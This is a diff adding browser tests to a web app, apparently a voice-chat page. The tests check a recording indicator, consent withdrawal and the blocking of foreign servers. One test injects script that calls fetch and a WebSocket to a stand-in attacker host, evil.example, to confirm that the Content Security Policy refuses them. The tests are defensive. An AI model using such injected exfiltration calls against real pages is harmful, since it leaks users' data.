@@ -229,6 +229,75 @@ async def test_page_settings_are_sent_and_persisted(page: Page, server: PageServ
     await expect(page.locator("#speak")).not_to_be_checked()
 
 
+async def test_page_shows_that_the_session_is_recorded_and_for_how_long(page: Page, server: PageServer) -> None:
+    """Before there is a session nothing is claimed; then the light is on, with the retention in words."""
+    light = page.locator("#recording")
+    await expect(light).to_be_hidden()
+
+    await start_session(page, server)
+
+    await expect(light).to_be_visible()
+    await expect(light).to_have_text("Recorded \u00b7 kept 30 days")
+    await expect(light).to_have_attribute("data-on", "true")
+    await screenshot(page, "recorded")
+
+
+async def test_page_stops_recording_at_once_when_consent_is_withdrawn(page: Page, server: PageServer) -> None:
+    """The switch begins a new session whose first message is `archive: false`, before any audio; it is remembered."""
+    await start_session(page, server)
+    await page.get_by_role("button", name="Settings").click()
+    await expect(page.locator("#archive-note")).to_contain_text("kept 30 days")
+
+    await page.get_by_role("switch", name="Record conversations").uncheck()
+    with anyio.fail_after(TIMEOUT_S):
+        await server.wait_for_session(2)
+        await server.wait_for_audio(sum(server.packet_seconds) + 0.2)
+    await screenshot(page, "consent")
+
+    assert server.control[-1] == {"type": "configure", "reply": True, "speak": True, "archive": False}
+    await expect(page.locator("#recording")).to_have_text("Not recorded")
+    await expect(page.locator("#notices")).to_be_empty()
+    await page.reload()
+    await expect(page.locator("#archive")).not_to_be_checked()
+
+
+async def test_page_ignores_a_link_that_names_a_strange_server(page: Page, server: PageServer) -> None:
+    """What is said goes to the page's own server, and a sentence says which one it did not go to."""
+    await page.goto(f"{server.url}?ws=wss://evil.example/ws")
+    await expect(page.locator("#notices")).to_contain_text("evil.example")
+    await screenshot(page, "link")
+
+    await start_session(page, server)
+
+    await expect(page.locator("#connection")).to_have_text("Connected")
+    await expect(page.locator("#notices")).to_contain_text("evil.example")
+
+
+async def test_content_security_policy_blocks_inline_script_and_strange_servers(
+    page: Page, console_errors: list[str]
+) -> None:
+    """The browser itself refuses what injected code could try."""
+    ran = await page.evaluate("""async () => {
+      const script = document.createElement("script");
+      script.textContent = "window.injected = true";
+      document.head.append(script);
+      const sent = await fetch("https://evil.example/").then(() => true, () => false);
+      const opened = await new Promise((resolve) => {
+        try {
+          const socket = new WebSocket("wss://evil.example/");
+          socket.onopen = () => resolve(true);
+          socket.onerror = () => resolve(false);
+        } catch { resolve(false); }
+      });
+      return [window.injected ?? false, sent, opened];
+    }""")
+    refused = [line for line in console_errors if "Content Security Policy" in line]
+    console_errors.clear()
+
+    assert ran == [False, False, False]
+    assert len(refused) >= 3
+
+
 async def test_page_reconnects_after_a_server_restart(page: Page, server: PageServer) -> None:
     """After a restart of the server the page is connected again and sends on; the draft cut off is marked."""
     await start_session(page, server)
